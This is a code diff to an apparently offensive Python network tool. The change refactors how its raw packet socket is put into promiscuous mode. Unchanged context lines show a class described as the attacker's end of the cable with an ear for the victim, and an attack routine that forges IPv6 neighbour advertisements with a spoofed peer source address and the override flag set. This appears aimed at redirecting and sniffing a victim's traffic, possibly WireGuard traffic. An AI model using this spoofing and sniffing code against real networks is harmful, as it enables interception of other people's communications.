@@ -52,6 +52,7 @@ SYN_ACK = 0x12
 HANDSHAKE_RESPONSE, COOKIE_REPLY = 2, 3
 """Types of WireGuard's answers (https://www.wireguard.com/protocol/)."""
 SO_ATTACH_FILTER, SO_RCVBUFFORCE = 26, 33  # asm-generic/socket.h
+SOL_PACKET, PACKET_ADD_MEMBERSHIP, PACKET_MR_PROMISC = 263, 1, 1  # linux/if_packet.h
 ETH_P_ALL, ETHERTYPE_IPV6 = 3, 0x86DD
 ICMPV6, TCP_NUMBER, UDP_NUMBER = 58, 6, 17
 NEIGHBOUR_DISCOVERY = range(130, 138)
@@ -107,14 +108,11 @@ class Cable:
     """The attacker's end of the cable: raw frames out, and an ear for the victim."""
 
     def __init__(self, job: Job) -> None:
-        self._job = job
         self._socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
         self._socket.setsockopt(socket.SOL_SOCKET, SO_RCVBUFFORCE, 64 << 20)
         self._listen_to(_raw(job.mac))
         self._socket.bind((job.interface, 0))
-        # linux/if_packet.h: PACKET_ADD_MEMBERSHIP with PACKET_MR_PROMISC, to see what goes from victim to peer.
-        index = socket.if_nametoindex(job.interface)
-        self._socket.setsockopt(263, 1, struct.pack("iHH8s", index, 1, 0, b""))
+        _hear_everything(self._socket, job.interface)
         self.mac = Path(f"/sys/class/net/{job.interface}/address").read_text().strip()
 
     def _listen_to(self, victim: bytes) -> None:
@@ -400,7 +398,7 @@ class Attacks:
         ear = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
         with ear:
             ear.bind((self.job.interface, 0))
-            ear.setsockopt(263, 1, struct.pack("iHH8s", socket.if_nametoindex(self.job.interface), 1, 0, b""))
+            _hear_everything(ear, self.job.interface)
             ear.settimeout(0.5)
             found: list[bytes] = []
             end = time.monotonic() + 5 * LISTEN_SECONDS
@@ -456,6 +454,12 @@ class Attacks:
         # Where the peer lives: an advertisement that may have crossed a router does not count (RFC 4861, 7.1.2).
         moved = ICMPv6ND_NA(tgt=self.job.peer_address, R=0, S=1, O=1)
         yield bytes(Ether(dst=self.job.mac) / IPv6(src=self.job.peer_address, dst=self.job.address, hlim=64) / moved)
+
+
+def _hear_everything(ear: socket.socket, interface: str) -> None:
+    """Let a packet socket see what goes from others to others, too (packet(7), PACKET_MR_PROMISC)."""
+    membership = struct.pack("iHH8s", socket.if_nametoindex(interface), PACKET_MR_PROMISC, 0, b"")
+    ear.setsockopt(SOL_PACKET, PACKET_ADD_MEMBERSHIP, membership)
 
 
 def _raw(mac: str) -> bytes:
